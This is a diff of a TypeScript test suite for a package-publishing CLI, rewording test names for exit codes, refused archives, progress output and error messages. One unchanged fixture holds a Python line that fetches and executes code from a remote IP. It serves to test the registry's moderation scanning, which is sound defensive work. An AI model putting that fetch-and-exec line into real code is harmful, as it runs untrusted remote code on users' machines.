@@ -39,7 +39,7 @@ describe('publish-pack', () => {
     assert.ok(stdout.includes('\ncalm 1.0.0 is live.\n'))
   })
 
-  it('ends with 2 when a moderator has to look, and names file, line, severity and remedy', async () => {
+  it('exits with 2 when a moderator must decide, and names file, line, severity and remedy', async () => {
     const files = {
       ...packOf('wild'),
       'fetch.py': 'import requests\nexec(requests.get("http://203.0.113.9").text)\n',
@@ -56,14 +56,14 @@ describe('publish-pack', () => {
     assert.ok(page.endsWith('/nodes/wild/manage/versions/1.0.0'))
   })
 
-  it('ends with 1 when the archive is refused', async () => {
+  it('exits with 1 when the archive is refused', async () => {
     const files = { ...packOf('refused'), 'a.txt': 'one', 'A.txt': 'two' }
     const { code, stderr } = await publishPack(await folderWith(files), '--token', acme.token).ended
     assert.equal(code, 1)
     assert.match(stderr, /^The registry refused the archive \(400\): .*a\.txt.*\n$/i)
   })
 
-  it('can be stopped while it watches, and says that the registry goes on', async () => {
+  it('can be stopped while it watches, and explains that the registry continues', async () => {
     const run = publishPack(await folderWith(packOf('left')), '--token', acme.token)
     await run.untilSaid('Progress: ')
     run.child.kill('SIGINT')
@@ -87,7 +87,7 @@ describe('publish-pack', () => {
   })
 })
 
-describe('publish-pack, given what cannot be published', () => {
+describe('publish-pack with an unpublishable input', () => {
   before(prepare)
 
   const cases: { name: string; args: () => Promise<string[]>; said: RegExp }[] = [
@@ -214,7 +214,7 @@ describe('publish-pack, given what cannot be published', () => {
     assert.match(stderr, /\(403\): .+\n {2}Check --publisher/)
   })
 
-  it('explains a number that is taken, with what to do', async () => {
+  it('explains a number that is taken, with the next steps', async () => {
     await acme.publish({ id: 'taken' })
     const { code, stderr } = await publishPack(await folderWith(packOf('taken')), '--token', acme.token).ended
     assert.equal(code, 1)
@@ -240,7 +240,7 @@ describe('publish-pack, given what cannot be published', () => {
 })
 
 describe('the progress on a terminal', () => {
-  it('shows what goes on in place, and keeps what is done', () => {
+  it('replaces running steps in place and keeps finished ones', () => {
     const shown: string[] = []
     const progress = progressOn({ isTTY: true, columns: 40, write: (text) => shown.push(text) })
     progress.begin('Packing')
@@ -255,7 +255,7 @@ async function prepare(): Promise<void> {
   api = await registry.world.listen()
 }
 
-/** Whatever goes wrong: no stack, and not more than a few lines. */
+/** Asserts an error of a few lines without a stack trace. */
 function assertShort(stderr: string): void {
   assert.doesNotMatch(stderr, /^\s+at /m)
   assert.ok(stderr.trim().split('\n').length <= 3, stderr)
